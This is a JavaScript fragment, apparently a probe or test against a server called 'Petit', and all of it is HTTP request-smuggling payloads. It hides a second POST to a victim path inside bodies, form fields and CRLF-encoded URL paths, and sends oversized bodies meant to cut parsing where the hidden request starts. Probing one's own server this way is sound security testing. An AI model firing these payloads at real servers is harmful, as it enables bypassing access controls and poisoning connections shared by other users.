// A second request within the body of one that is allowed, or refused before its body is read.
const host = TARGET.replace("http://", "");
const inner = `POST ${VICTIM} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 0\r\n\r\n`;
const bodies = [
  inner, `\r\n\r\n${inner}`, `0\r\n\r\n${inner}`, inner.replaceAll("\r", ""), `GET / HTTP/1.1\r\nX: ${inner}`,
  inner.repeat(200),
];
const lines = [
  `%0d%0a%0d%0a${encodeURIComponent(inner)}`, `?x=%0d%0a${encodeURIComponent(inner)}`, "%20HTTP/1.1%0d%0aX:",
];
await all(["/", "/api/jobs", "/api/nothing", VICTIM, "/api/validate", "/api/health/live"], async (path) => {
  await all(bodies, (body) => read(fetch(url(path), { method: "POST", mode: "no-cors", body, keepalive: true })));
  await submit(url(path), "text/plain", { [bodies[1]]: "", [bodies[2]]: bodies[3] });
  await submit(url(path), "multipart/form-data", { [inner]: inner });
  await all(lines, (line) => read(fetch(url(path + line), { method: "POST", mode: "no-cors" })));
});
// One whose body is too large, so that Petit stops reading at the place where the second one begins.
for (const size of [1 << 20, (1 << 20) + 1, 1 << 23])
  await read(fetch(url(VICTIM), { method: "POST", mode: "no-cors", body: "x".repeat(size) + inner }));
